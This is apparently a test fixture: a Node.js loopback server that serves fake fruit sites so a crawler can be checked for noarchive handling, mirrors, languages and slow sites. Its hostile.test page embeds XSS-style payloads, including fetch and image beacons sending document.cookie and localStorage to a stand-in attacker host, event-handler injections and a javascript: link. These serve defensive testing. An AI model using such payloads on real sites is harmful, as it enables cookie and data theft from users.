// A small web on loopback for the program to crawl: fruit in two languages, a mirror, a page that attacks whoever
// shows it, and a site that is slow to be fetched whole.
import http from "node:http";

const fruit = {
  apple: "The apple tree grows in orchards all over Europe; its fruit is eaten fresh, baked, dried or pressed into cider and juice.",
  pear: "The pear is a cousin of the apple. It ripens off the tree, in a cool cellar, and is best on one single afternoon.",
  quince: "The quince is hard and sour when raw. Cooked for hours with sugar it turns red, and fills the whole house with its smell.",
  medlar: "The medlar is eaten only after it has begun to rot, which gardeners call bletting, and tastes of dates and old wine.",
  plum: "Plums are dried into prunes, distilled into brandy, or baked into a cake with crumbs of butter on a sheet in September.",
  cherry: "Cherries are picked from ladders in June, before the starlings come, and sold in paper cones along the country roads.",
  apricot: "The apricot flowers so early that a late frost takes the harvest every other year, which makes its jam a luxury.",
  fig: "A fig is a garden of flowers turned inside out, and some of them need a wasp of their own to set their seed.",
  grape: "Grapes hang in the orchard wall where the stones keep the warmth of the day, and are ripe in October at the latest.",
  walnut: "Walnuts stain the hands of those who husk them. They lie in the loft until winter and are cracked by the fire.",
  almond: "The almond blooms in February on bare wood; its nuts are sweet or bitter, and the tree cannot tell you which.",
  mulberry: "Mulberry leaves feed the silkworm, and its berries stain the pavement of every village square in the south.",
};

const mele =
  "La mela è il frutto del melo, un albero che cresce nei frutteti di tutta la penisola; si mangia fresca, cotta al forno oppure secca.";

const page = (language, title, body) =>
  `<!DOCTYPE html><html lang="${language}"><head><title>${title}</title><style>h1{color:#7a1f3d}</style></head><body><main>${body}</main></body></html>`;

const about = (name, next, home) =>
  `<h1>The ${name}</h1><p>${fruit[name]} It is one of the trees of our orchard.</p><p>Next: <a href="${home}/${next}">the ${next}</a>, ` +
  `<a href="${home}/private">a private page</a>, <a href="http://elsewhere.test/">elsewhere</a></p>`;

// What it would do if it could: call home, read what is kept, ask the service's own API.
const attack = `
  fetch("http://hostile.test/leak?cookie=" + document.cookie);
  new Image().src = "http://hostile.test/leak?storage=" + JSON.stringify(localStorage);
  fetch("/api/v1/stats").then(() => { new Image().src = "/leak"; });
  document.title = "taken over"; window.taken = true;`;

export async function startWeb() {
  const leaks = [];
  const server = http.createServer((request, response) => {
    const host = (request.headers.host ?? "").split(":")[0];
    const url = new URL(request.url, "http://x");
    const at = (name) => `http://${name}:${server.address().port}`;
    const send = (body, type = "text/html; charset=utf-8", headers = {}) => {
      response.writeHead(200, { "content-type": type, ...headers });
      response.end(body);
    };
    const missing = () => {
      response.writeHead(404, { "content-type": "text/plain" });
      response.end("no such page");
    };
    if (url.pathname.startsWith("/leak")) {
      leaks.push(request.url);
      return send("", "image/gif");
    }
    const name = url.pathname.slice(1);
    if (host === "orchard.test") {
      if (name === "") {
        const links = Object.keys(fruit).map((one) => `<li><a href="/${one}">all about the ${one}</a></li>`).join("");
        const others = ["mirror.test", "frutteto.test", "hostile.test", "slow.test"].map((one) => `<a href="${at(one)}/">${one}</a> `).join("");
        return send(page("en", "The orchard", `<h1>The orchard</h1><p>Notes on fruit and on the trees that bear it, kept by a gardener.</p><ul>${links}</ul><p>${others}</p>`));
      }
      if (name === "private") return send(page("en", "A private orchard", "<p>This orchard is private: its gardener asks that no copy of this page be shown.</p>"), undefined, { "x-robots-tag": "noarchive" });
      if (fruit[name]) {
        const next = Object.keys(fruit)[(Object.keys(fruit).indexOf(name) + 1) % 12];
        return send(page("en", `The ${name}`, about(name, next, at("orchard.test"))));
      }
    }
    if (host === "mirror.test") {
      if (name === "") return send(page("en", "A mirror", `<p>Copies of pages that we like to have nearby.</p><a href="/apple">apple</a> <a href="/apple-again">again</a>`));
      if (name.startsWith("apple")) return send(page("en", "The apple", about("apple", "pear", at("orchard.test"))));
    }
    if (host === "frutteto.test") {
      if (name === "") return send(page("it", "Il frutteto", `<h1>Il frutteto</h1><p>Appunti di un giardiniere sulla frutta e sugli alberi che la portano.</p><a href="/mela">la mela</a>`));
      if (name === "mela") return send(page("it", "La mela", `<h1>La mela</h1><p>${mele}</p>`));
    }
    if (host === "hostile.test" && name === "") {
      return send(
        page("en", `Poison ivy &lt;script&gt;window.taken = true&lt;/script&gt;`,
          `<h1 onclick="window.taken = true" onmouseover="window.taken = true">Poison ivy</h1>
           <script>${attack}</script><img src="${at("hostile.test")}/leak.gif" onerror="window.taken = true">
           <iframe src="/leak"></iframe><form action="/leak"><input name="x"><button>Send</button></form>
           <link rel="stylesheet" href="/leak.css"><style>body{background:url(/leak.png)}</style>
           <p>Poison ivy &lt;img src=x onerror=alert(1)&gt; climbs the trees of the orchard, and whoever shows it may be sorry for that.</p>
           <a href="javascript:window.taken = true">a script</a> <a href="${at("orchard.test")}/apple">the apple</a>`),
      );
    }
    if (host === "slow.test") {
      if (name === "") {
        const links = Array.from({ length: 80 }, (_, i) => `<a href="/note-${i}">note ${i}</a> `).join("");
        return send(page("en", "Slow notes", `<p>Notes that come one after the other, as slowly as the server is asked for them.</p>${links}`));
      }
      const number = /^note-(\d+)$/.exec(name)?.[1];
      const words = number && Array.from({ length: 40 }, (_, i) => ((Number(number) + 7) * 7919 * (i + 3)).toString(36)).join(" ");
      if (number) return send(page("en", `Tortoise ${number}`, `<p>Tortoise number ${number} walks past ${words} and is in no hurry.</p>`));
    }
    return missing();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = server.address().port;
  return {
    leaks,
    hosts: ["orchard.test", "mirror.test", "frutteto.test", "hostile.test", "slow.test"],
    url: (host, path = "/") => `http://${host}:${port}${path}`,
    close: () => {
      server.closeAllConnections?.();
      server.close();
    },
  };
}
